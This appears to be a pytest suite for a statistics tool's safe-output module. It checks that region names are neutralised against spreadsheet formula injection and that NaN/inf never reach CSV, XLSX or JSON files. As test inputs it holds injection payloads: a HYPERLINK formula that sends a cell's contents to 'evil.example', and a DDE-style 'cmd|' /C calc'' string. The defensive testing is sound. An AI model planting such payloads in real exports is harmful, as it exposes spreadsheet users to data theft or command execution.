"""Safe outputs (issue 7 §4): text is never a formula, NaN/inf never reach a file."""

from __future__ import annotations

import csv
import io
import json
import math
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest

from revstat.writers import safe

HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'


@pytest.mark.parametrize("text", [
    "=1+1", HOSTILE, "+SUM(A1:A3)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1",
    "＝1+1", "－1+cmd", "-", "+", "@",
])
def test_formula_like_text_is_prefixed_with_quote(text: str) -> None:
    assert safe.neutralize(text) == "'" + text


@pytest.mark.parametrize("text", [
    "城关镇", "A&B<村>", "-3.2", "+1.5", "-1,234.5", "12%", "-0.5%", "1e5", "", "'=already",
])
def test_ordinary_text_and_plain_numbers_are_unchanged(text: str) -> None:
    assert safe.neutralize(text) == text


@pytest.mark.parametrize("value", [
    float("nan"), float("inf"), float("-inf"), Decimal("NaN"), Decimal("Infinity"),
    Decimal("-Infinity"), None,
])
def test_non_finite_values_are_written_empty(value: object) -> None:
    assert safe.is_missing(value)
    assert safe.csv_value(value) == ""
    assert safe.xlsx_value(value) is None
    assert safe.json_value(value) is None


def test_pandas_missing_markers_are_missing() -> None:
    import pandas as pd

    assert safe.is_missing(pd.NA)
    assert safe.is_missing(pd.NaT)
    assert not safe.is_missing(0)
    assert not safe.is_missing("nan")  # the *text* nan is a value (neutral, not a number)


def test_decimals_are_written_in_full_without_exponent() -> None:
    assert safe.csv_value(Decimal("1E+3")) == "1000"
    assert safe.csv_value(Decimal("0.000001")) == "0.000001"
    assert safe.csv_value(Decimal("-0")) == "0"
    assert safe.csv_value(0.1) == "0.1"
    assert safe.csv_value(12) == "12"


def test_csv_round_trip_keeps_text_as_text(tmp_path: Path) -> None:
    rows = [["region_name", "value", "display"],
            [HOSTILE, Decimal("12.5"), "12.5"],
            ["@cmd", float("nan"), "-3.2"],
            ["A&B<村>", float("inf"), ""]]
    path = tmp_path / "out.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.writer(fh)
        for row in rows:
            writer.writerow(safe.csv_row(row))
    text = path.read_text(encoding="utf-8-sig")
    assert "nan" not in text.lower() and "inf" not in text.lower()
    back = list(csv.reader(io.StringIO(text)))
    assert back[1] == ["'" + HOSTILE, "12.5", "12.5"]
    assert back[2] == ["'@cmd", "", "-3.2"]
    assert back[3] == ["A&B<村>", "", ""]
    # no written cell begins with a formula character unless it is a plain number
    for row in back[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


def test_safe_frame_through_pandas_to_csv(tmp_path: Path) -> None:
    import pandas as pd

    df = pd.DataFrame({"name": ["=1+1", "城关镇", None],
                       "value": [float("nan"), 1.5, float("inf")],
                       "dec": [Decimal("NaN"), Decimal("2.50"), None]})
    path = tmp_path / "f.csv"
    safe.safe_frame(df).to_csv(path, index=False, encoding="utf-8-sig")
    lines = path.read_text(encoding="utf-8-sig").splitlines()
    assert lines == ["name,value,dec", "'=1+1,,", "城关镇,1.5,2.50", ",,"]
    assert df.loc[0, "name"] == "=1+1"  # the input frame is not modified


def test_json_never_contains_nan_or_infinity() -> None:
    data = {"a": float("nan"), "b": [Decimal("Infinity"), Decimal("1.20")], "c": "=1"}
    text = safe.json_dumps(data)
    assert json.loads(text) == {"a": None, "b": [None, "1.20"], "c": "=1"}
    with pytest.raises(ValueError):
        json.dumps({"a": float("nan")}, allow_nan=False)  # what json_dumps protects against


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as zf:
        return zf.read("xl/worksheets/sheet1.xml").decode("utf-8")


def test_xlsxwriter_text_is_a_string_never_a_formula(tmp_path: Path) -> None:
    import openpyxl
    import xlsxwriter

    path = tmp_path / "t.xlsx"
    wb = xlsxwriter.Workbook(str(path), safe.XLSXWRITER_OPTIONS)
    ws = wb.add_worksheet("表")
    values = [HOSTILE, "http://example.com", "0012", Decimal("1.25"), float("nan"), float("-inf"), 7]
    for col, value in enumerate(values):
        safe.write_xlsx_cell(ws, 0, col, value)
    # the options alone also protect plain ws.write()
    ws.write(1, 0, "=1+1")
    ws.write(1, 1, "www.example.com")
    wb.close()
    xml = _sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml
    assert "<hyperlinks>" not in xml
    sheet = openpyxl.load_workbook(path)["表"]
    assert [c.value for c in sheet[1]] == [HOSTILE, "http://example.com", "0012", 1.25, None, None, 7]
    assert sheet["A1"].data_type == "s" and sheet["C1"].data_type == "s"
    assert sheet["A2"].value == "=1+1" and sheet["A2"].data_type == "s"


def test_xlsxwriter_defaults_would_have_made_a_formula(tmp_path: Path) -> None:
    """Guard the guard: without the options xlsxwriter writes a live formula."""
    import xlsxwriter

    path = tmp_path / "unsafe.xlsx"
    wb = xlsxwriter.Workbook(str(path))
    wb.add_worksheet().write(0, 0, "=1+1")
    wb.close()
    assert "<f>" in _sheet_xml(path)


def test_openpyxl_text_cell_stays_text(tmp_path: Path) -> None:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    safe.set_openpyxl_text(ws["A1"], HOSTILE)
    ws["A2"] = "=1+1"  # what openpyxl does by default: a formula
    path = tmp_path / "o.xlsx"
    wb.save(path)
    xml = _sheet_xml(path)
    assert xml.count("<f>") == 1  # only A2
    assert openpyxl.load_workbook(path).active["A1"].value == HOSTILE


def test_xlsx_value_converts_decimal_to_float_exactly_enough() -> None:
    assert safe.xlsx_value(Decimal("94.5974")) == 94.5974
    assert math.isclose(safe.xlsx_value(Decimal("1E+3")), 1000.0)
    assert safe.xlsx_value(True) is True


# ---- end to end: hostile region names through compile, extract and report ------------------

EVIL = '=HYPERLINK("http://evil.example","河口镇")'
AMP = "A&B<村>"


@pytest.fixture(scope="module")
def hostile_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The bad-input workspace with two 乡镇 renamed (a formula, markup characters), compiled."""
    from tests.badinputs import make_corpus as mc

    root = tmp_path_factory.mktemp("hostile") / "ws"
    mc.build_workspace(root, mc.CASE_BY_ID["excel_lock_file"])
    (root / mc.DATA / f"~${mc.BAD_FILE}").unlink()
    quoted = '"' + EVIL.replace('"', '""') + '"'
    regions = (root / "regions.csv").read_text(encoding="utf-8")
    (root / "regions.csv").write_text(regions.replace("河口镇", quoted).replace("永宁镇", AMP), encoding="utf-8")
    bad = {EVIL: ("11", "33", "1.1"), AMP: ("12", "0", "1.2"), "新华乡": ("13", "39", "1.3")}
    mc.good_xlsx(root / mc.DATA / mc.BAD_FILE, bad, county="乙县")
    (root / mc.DATA / "甲县.csv").unlink()
    (root / "sources" / "income.yaml").unlink()
    (root / "revstat.yaml").write_text('name: 安全输出测试\nregion: "990100000000"\n'
                                       "standard_indicators: false\nstandard_checks: false\n", encoding="utf-8")
    (root / "indicators").mkdir()
    (root / "indicators" / "t.yaml").write_text(
        "theme: monitoring\nindicators:\n"
        "  - {id: households_total, name: 监测户数, unit: 户, formula: households, decimals: 0}\n"
        "  - {id: funds_per_person, name: 人均帮扶资金, unit: 万元, formula: funds / persons, decimals: 4}\n",
        encoding="utf-8")
    (root / "templates").mkdir()
    (root / "templates" / "names.md.j2").write_text(
        "# {{ region.name }}各乡镇\n\n{% for k in children %}\n- {{ k.name }}：{{ k['households_total']|num }}户\n{% endfor %}\n",
        encoding="utf-8")
    _invoke("compile", str(root), "--period", "2024Q4")
    return root


def _invoke(*args: str) -> None:
    from typer.testing import CliRunner

    from revstat.cli import app

    result = CliRunner().invoke(app, list(args))
    assert result.exit_code == 0, result.output


def _csv_cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def test_compile_outputs_are_safe(hostile_ws: Path) -> None:
    import openpyxl

    out = hostile_ws / "out" / "2024Q4"
    rows = _csv_cells(out / "indicators.csv")
    header = rows[0]
    names = [r[header.index("region_name")] for r in rows[1:]]
    assert "'" + EVIL in names and EVIL not in names and AMP in names
    for row in rows[1:]:
        for cell in row:
            assert cell.lower() not in ("nan", "inf", "-inf", "infinity", "-infinity"), row
            assert not cell.startswith(("=", "@", "+")) or safe._PLAIN_NUMBER.match(cell), row
    # 1.2 万元 / 0 persons: missing, never inf
    amp = next(r for r in rows[1:] if r[header.index("region_name")] == AMP and r[0] == "funds_per_person")
    assert amp[header.index("value")] == "" and amp[header.index("display")] in ("", "—")

    data = json.loads((out / "indicators.json").read_text(encoding="utf-8"),
                      parse_constant=lambda c: pytest.fail(f"JSON contains {c}"))
    assert EVIL in {r["region_name"] for r in data}  # JSON is data, not a spreadsheet: unchanged

    with zipfile.ZipFile(out / "indicators.xlsx") as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and all(b"<f>" not in zf.read(n) and b"<f " not in zf.read(n) for n in sheets)
    wb = openpyxl.load_workbook(out / "indicators.xlsx")
    evil_cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
                  if isinstance(c.value, str) and c.value.strip("\u3000 ") == EVIL]  # names are indented
    assert evil_cells and all(c.data_type == "s" for c in evil_cells)
    texts = {str(c.value).lower() for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None}
    assert not texts & {"nan", "inf", "-inf"}


def test_extract_observations_are_neutralised(hostile_ws: Path) -> None:
    _invoke("extract", str(hostile_ws), "--period", "2024Q4")  # after compile: out/2024Q4 exists
    rows = _csv_cells(hostile_ws / "out" / "2024Q4" / "observations.csv")
    names = {r[rows[0].index("region_name")] for r in rows[1:]}
    assert "'" + EVIL in names and EVIL not in names


@pytest.mark.parametrize("fmt", ["html", "docx", "md"])
def test_markup_characters_survive_reports(hostile_ws: Path, fmt: str) -> None:
    target = hostile_ws / "out" / f"names.{fmt}"
    _invoke("report", str(hostile_ws), "--period", "2024Q4", "--template", "names", "--region", "乙县",
            "--format", fmt, "--output", str(target))
    if fmt == "docx":
        import docx

        text = "\n".join(p.text for p in docx.Document(str(target)).paragraphs)
    else:
        text = target.read_text(encoding="utf-8")
    if fmt == "html":
        assert "A&amp;B&lt;村&gt;" in text and AMP not in text
        import html as html_mod

        assert AMP in html_mod.unescape(text)
    else:
        assert AMP in text
    assert "nan" not in text.lower().replace("nanjing", "")
